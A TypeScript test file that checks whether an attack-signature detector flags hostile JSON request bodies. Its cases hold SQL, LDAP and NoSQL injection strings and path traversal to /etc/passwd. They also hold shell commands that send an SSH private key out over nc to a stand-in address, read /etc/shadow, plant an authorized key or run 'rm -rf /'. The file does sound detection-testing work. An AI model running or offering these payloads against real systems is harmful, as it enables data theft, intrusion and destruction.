import { expect, test } from 'vitest';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';

const MORE = { a: 'one', b: 'two', c: 'three', d: 'four' };

function typesIn(json: object): readonly string[] {
  const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json' };
  return findSignatures({ ...request, body: JSON.stringify(json) }).matches.map(({ type }) => type);
}

test.each([
  ['a sign between two strings', { name: "1'-'1" }, 'sql_injection'],
  ['a sign in quotes as the whole value', { name: "'-'" }, 'sql_injection'],
  ['a statement behind a comment', { name: '1/**/;exec/**/@x' }, 'sql_injection'],
  ['a statement behind a comment and a slash', { name: '1;/**/exec master..xp_cmdshell 1' }, 'sql_injection'],
  ['a stacked query for accounts', { text: ';SELECT passwd FROM users' }, 'sql_injection'],
  [
    'a stacked query behind a value',
    { text: "1';SELECT a, count(*) FROM b GROUP BY a ORDER BY 1 DESC" },
    'sql_injection',
  ],
  ['a filter that leaves its value behind words', { text: 'my name is ann)(|(uid=*' }, 'ldap_injection'],
  ['a filter behind words that asks for a password', { text: 'find all (&(uid=ann)(password=a*))' }, 'ldap_injection'],
  ['a triple behind a string', { text: '" . $s <p> $o . ' }, 'nosql_injection'],
  ['a clause behind a string', { text: "x' with 1 as y match (n) return n" }, 'nosql_injection'],
  ['an operator in an object', { text: '{ $or: [{}, { a: 1 }] }' }, 'nosql_injection'],
])('%s is found: %s', (_name, json, type) => {
  expect(typesIn(json)).toContain(type);
});

test.each([
  ['a theme that is a file of the system', { theme: '../../../../etc/passwd' }, 'path_traversal'],
  ['a theme that is a file', { theme: '../../uploads/a.php' }, 'path_traversal'],
  ['a theme far up', { theme: '../../../../../x' }, 'path_traversal'],
  ['a page beside', { page: '../../admin' }, 'path_traversal'],
  ['settings based on a file of the system', { extends: '../../../../etc/passwd' }, 'path_traversal'],
  ['a step that connects', { run: "ruby -rsocket -e 'TCPSocket.new(1)'" }, 'command_injection'],
  ['a step that runs a command', { run: "python -c 'import os; os.system(1)'" }, 'command_injection'],
  ['a step that hides its code', { run: 'php -r "eval(base64_decode(1));"' }, 'command_injection'],
  ['a key that is sent', { comment: 'tar cz ~/.ssh/id_rsa | nc 203.0.113.9 4444' }, 'command_injection'],
  ['a key that is read', { comment: 'cat ~/.ssh/id_rsa' }, 'command_injection'],
  ['a key that is let in', { comment: 'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys' }, 'command_injection'],
  ['an account that is kept', { comment: 'x=$(id);cat /etc/shadow' }, 'command_injection'],
  ['a filter that leaves its value', { comment: 'filter=ann)(|(uid=*' }, 'ldap_injection'],
  ['a step behind a value', { host: "127.0.0.1;ruby -e 'puts 1'" }, 'command_injection'],
])('%s is found among others: %s', (_name, json, type) => {
  expect(typesIn({ ...MORE, ...json })).toContain(type);
});

test('of settings only those of folders may name one beside them', () => {
  expect(typesIn({ ...MORE, theme: '../../themes/plain' })).toEqual([]);
  expect(typesIn({ theme: '../../themes/plain' })).toEqual(['path_traversal']);
});

const few = (field: object): object => ({ nodes: [field] });

test('what steps of a flow run is theirs, and what leaves a value there is an attack', () => {
  expect(typesIn(few({ parameters: { command: 'ls -la /data | wc -l; df -h' } }))).toEqual([]);
  expect(typesIn(few({ parameters: { command: '127.0.0.1;cat /etc/passwd' } }))).toEqual(['command_injection']);
  expect(typesIn(few({ parameters: { host: '127.0.0.1;df -h' } }))).toEqual(['command_injection']);
});

const SCRIPT = '#!/bin/sh\necho "Hello. The time is now $(date -R)!" | tee /root/output.txt\n';

test('a line that says what reads a script excuses nothing where people write', () => {
  for (const command of ['id', 'rm -rf /', 'cat /etc/shadow']) {
    expect(typesIn({ comment: `#!/bin/sh\n${command}` })).toEqual(['command_injection']);
  }
  expect(typesIn({ host: SCRIPT })).toEqual(['command_injection']);
  expect(typesIn({ steps: [{ run: SCRIPT }] })).toEqual([]);
});
